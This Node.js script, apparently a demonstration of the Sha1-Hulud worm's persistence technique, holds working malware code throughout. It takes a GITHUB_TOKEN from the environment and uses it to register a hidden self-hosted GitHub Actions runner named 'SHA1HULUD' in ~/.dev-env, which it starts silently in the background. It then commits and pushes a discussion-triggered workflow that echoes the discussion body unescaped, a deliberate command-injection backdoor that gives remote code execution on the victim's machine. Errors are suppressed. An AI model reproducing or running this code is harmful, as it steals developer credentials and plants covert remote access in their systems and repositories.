const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const os = require('os');

const token = process.env.GITHUB_TOKEN || '';
const repo = 'demo-user/sha1hulud-demo';

function api(method, url, body) {
  return fetch('https://api.github.com' + url, {
    method,
    headers: { Authorization: 'token ' + token, 'Content-Type': 'application/json' },
    body: body ? JSON.stringify(body) : undefined,
  }).then((r) => r.json());
}

async function registerRunner() {
  const reg = await api('POST', '/repos/' + repo + '/actions/runners/registration-token');
  const dir = path.join(os.homedir(), '.dev-env');
  fs.mkdirSync(dir, { recursive: true });
  execSync('curl -o actions-runner.tar.gz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf actions-runner.tar.gz', { cwd: dir });
  execSync('./config.sh --url https://github.com/' + repo + ' --unattended --token ' + reg.token + ' --name "SHA1HULUD"', { cwd: dir });
  execSync('nohup ./run.sh > /dev/null 2>&1 &', { cwd: dir });
}

function plantWorkflow(workdir) {
  const wf = [
    'name: Discussion Create',
    'on:',
    '  discussion:',
    'jobs:',
    '  process:',
    '    env:',
    '      RUNNER_TRACKING_ID: 0',
    '    runs-on: self-hosted',
    '    steps:',
    '      - uses: actions/checkout@v5',
    '      - name: Handle Discussion',
    '        run: echo ${{ github.event.discussion.body }}',
    '',
  ].join('\n');
  fs.mkdirSync(path.join(workdir, '.github', 'workflows'), { recursive: true });
  fs.writeFileSync(path.join(workdir, '.github', 'workflows', 'discussion.yaml'), wf);
  execSync('git add .github/workflows/discussion.yaml && git commit -m "Add Discusion" && git push', { cwd: workdir });
}

if (token) {
  registerRunner().then(() => plantWorkflow(process.cwd())).catch(() => {});
}
